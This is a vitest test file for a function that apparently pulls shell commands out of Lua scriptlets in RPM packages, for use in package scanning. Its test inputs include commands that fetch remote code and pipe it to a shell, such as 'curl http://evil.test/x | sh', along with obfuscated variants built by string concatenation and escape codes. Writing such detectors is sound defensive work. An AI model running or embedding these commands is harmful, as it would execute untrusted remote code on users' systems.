// Shell commands in lua scriptlets, as rpm's own library and lua's run them.
import { describe, expect, it } from 'vitest'
import { luaCommands } from '../../../src/ecosystems/yum/lua-commands.ts'

describe('shell commands in lua scriptlets', () => {
  it.each<[string, string]>([
    ['os.execute("curl http://evil.test/x | sh")', 'curl http://evil.test/x | sh'],
    ["io.popen('id')", 'id'],
    ['os.execute[[echo a]]', 'echo a'],
    ['os.execute [==[echo ]] b]==]', 'echo ]] b'],
    ['rpm.execute("/bin/sh", "-c", "id")', '/bin/sh\n-c\nid'],
    ['local c = "cu" .. "rl evil.test | sh"\nos.execute(c)', 'curl evil.test | sh'],
    ['os.execute("\\99url \\x41\\"b\\"")', 'curl A"b"'],
    ['print("hello")', ''],
  ])('%s', (script, commands) => {
    expect(luaCommands(script)).toBe(commands)
  })
})
